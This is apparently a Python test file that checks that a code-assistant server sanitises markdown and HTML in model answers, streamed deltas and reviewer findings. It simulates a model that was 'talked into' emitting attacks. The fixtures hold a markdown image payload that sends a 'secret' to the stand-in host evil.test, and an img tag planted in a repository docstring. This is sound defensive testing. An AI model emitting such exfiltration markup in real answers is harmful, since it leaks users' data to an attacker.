"""What a model was talked into writing reaches API clients as text that does nothing.

The model's answer to every question is an attack, in pieces that split its marks; the repository's
own docstring is one, too. What counts is what a client's renderer makes of the answers.
"""

import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from agents.ask.answer import Answer
from agents.change.reviewer import ReviewVerdict
from agents.review.findings.finding import Finding
from rooftree.text.safe_markdown import sanitise_markdown
from server.access.api_keys import KeyStore
from server.access.request_guards import policy_for
from server.http.app import build_app
from tests.agents.rendering import ATTACKS, what_it_does
from tests.agents.scenes import FOUND, SHOP
from tests.server.calls import Calls
from tests.server.changing import changing_config
from tests.server.stand import client_of
from tests.support import git_repository
from tests.support.replies import Body, Events, Reply, Text
from tests.support.scripted_model import ScriptedServer

SAYS = "It takes the money [1]. "
IMAGE = "![x](http://evil.test/p?q=secret)"
EVERYTHING = "\n\n".join(text.replace("```\n", "```\n\n") for text in ATTACKS)
PIECE = 3
"""Characters of a delta: less than the shortest mark that does something."""


@dataclass(slots=True)
class Talked:
    """A model that was talked into it."""

    text: str = ""

    def __call__(self, body: Body) -> Reply:
        if not body.get("stream"):
            return Text(self.text)
        pieces = [self.text[at : at + PIECE] for at in range(0, len(self.text), PIECE)]
        return Events((*map(_chunk, pieces), _chunk("", "stop")))


def _chunk(text: str, reason: str | None = None) -> dict[str, Any]:
    choice = {"index": 0, "delta": {"content": text}, "finish_reason": reason}
    return {"object": "chat.completion.chunk", "model": "scripted", "choices": [choice]}


@dataclass(frozen=True, slots=True)
class Asked:
    """Everything that a client saw of one question."""

    whole: str
    api: str
    chunks: str
    deltas: str
    result: str

    @property
    def all(self) -> tuple[str, ...]:
        return (self.whole, self.api, self.chunks, self.deltas, self.result)


@pytest.fixture(scope="module")
def shop(tmp_path_factory: pytest.TempPathFactory) -> Path:
    checkout = str(SHOP["shop/checkout.py"])
    documented = checkout.replace('"""', f'"""{IMAGE} <img src=//evil.test> ', 1)
    pay = f'def charge_later(cart, how: List<b> = "{IMAGE}"):\n    """Pay later. {IMAGE}"""\n'
    files = SHOP | {"shop/checkout.py": documented, "shop/later.py": pay}
    return git_repository(tmp_path_factory.mktemp("shop"), files)


@pytest.fixture
def model() -> Iterator[tuple[Talked, ScriptedServer]]:
    talked = Talked()
    with ScriptedServer(talked) as server:
        yield talked, server


async def asked(tmp_path: Path, shop: Path, server: ScriptedServer) -> tuple[Asked, str]:
    """Ask whole and streamed at both APIs; return also what passes through of the model itself."""
    services = Calls(changing_config(tmp_path, server), default=shop)
    keys = KeyStore(tmp_path / "keys.sqlite")
    policy = policy_for("127.0.0.1", 100_000, behind_proxy=False)
    face = build_app(services, [shop]).network_face(policy, keys)
    chat = {"model": "rooftree", "messages": [{"role": "user", "content": FOUND}]}
    try:
        async with client_of(face, keys.create("ada", ("chat", "search"))) as client:

            async def post(path: str, body: dict[str, Any]) -> str:
                answer = await client.post(path, json=body, timeout=300)
                assert answer.status_code == 200, answer.text
                return answer.text

            whole = json.loads(await post("/v1/chat/completions", chat))
            streamed = _frames(await post("/v1/chat/completions", chat | {"stream": True}))
            api = json.loads(await post("/api/ask", {"question": FOUND}))
            events = _frames(await post("/api/ask", {"question": FOUND, "stream": True}))
            raw = chat | {"model": "scripted"}
            passed = json.loads(await post("/v1/chat/completions", raw))
            pieces = _frames(await post("/v1/chat/completions", raw | {"stream": True}))
    finally:
        keys.close()
        await services.aclose()
    assert api["status"] == "answered"
    assert api["model"]
    said = _content(pieces)
    assert said == passed["choices"][0]["message"]["content"]
    seen = Asked(
        whole["choices"][0]["message"]["content"],
        api["answer"],
        _content(streamed),
        "".join(one["data"]["text"] for kind, one in events if kind == "message.delta"),
        next(one["answer"] for kind, one in events if kind == "result"),
    )
    return seen, said


def _frames(text: str) -> list[tuple[str, Any]]:
    frames = []
    for part in text.split("\n\n"):
        lines = dict(line.split(": ", 1) for line in part.split("\n") if ": " in line[1:])
        if lines.get("data", "[DONE]") != "[DONE]":
            frames.append((lines.get("event", ""), json.loads(lines["data"])))
    return frames


def _content(frames: list[tuple[str, Any]]) -> str:
    deltas = [choice["delta"] for _, one in frames for choice in one["choices"]]
    return "".join(delta.get("content") or "" for delta in deltas)


@pytest.mark.parametrize("attack", [IMAGE, EVERYTHING], ids=["an image", "everything"])
async def test_no_answer_does_anything_where_it_is_rendered(
    attack: str, tmp_path: Path, shop: Path, model: tuple[Talked, ScriptedServer]
) -> None:
    talked, server = model
    talked.text = f"{SAYS}{attack}\n\nEnd."
    seen, passed = await asked(tmp_path, shop, server)
    assert what_it_does(passed)
    assert passed == talked.text
    for text in seen.all:
        assert "evil.test" in text.partition("Summary by")[0]
        assert "evil.test" in text.partition("Summary by")[2]
        assert what_it_does(text) == []
    assert seen.whole == seen.api == seen.chunks == seen.result


def test_no_word_of_a_reviewer_does_anything() -> None:
    for attack in ATTACKS:
        finding = Finding(
            "a.py", 1, 1, "major", "bug", attack, "model", "x = 1", attack, (attack, "E  <b>")
        ).as_json()
        verdict = ReviewVerdict("objects", (attack,)).as_json()
        told = [finding["claim"], finding["trigger"], *finding["evidence"], *verdict["reasons"]]
        assert [what_it_does(text) for text in told] == [[]] * len(told)


def test_what_a_client_would_see_without_it(tmp_path: Path) -> None:
    answer = Answer("?", "answered", IMAGE)
    assert what_it_does(answer.as_json()["answer"])
    assert not what_it_does(sanitise_markdown(answer.text))
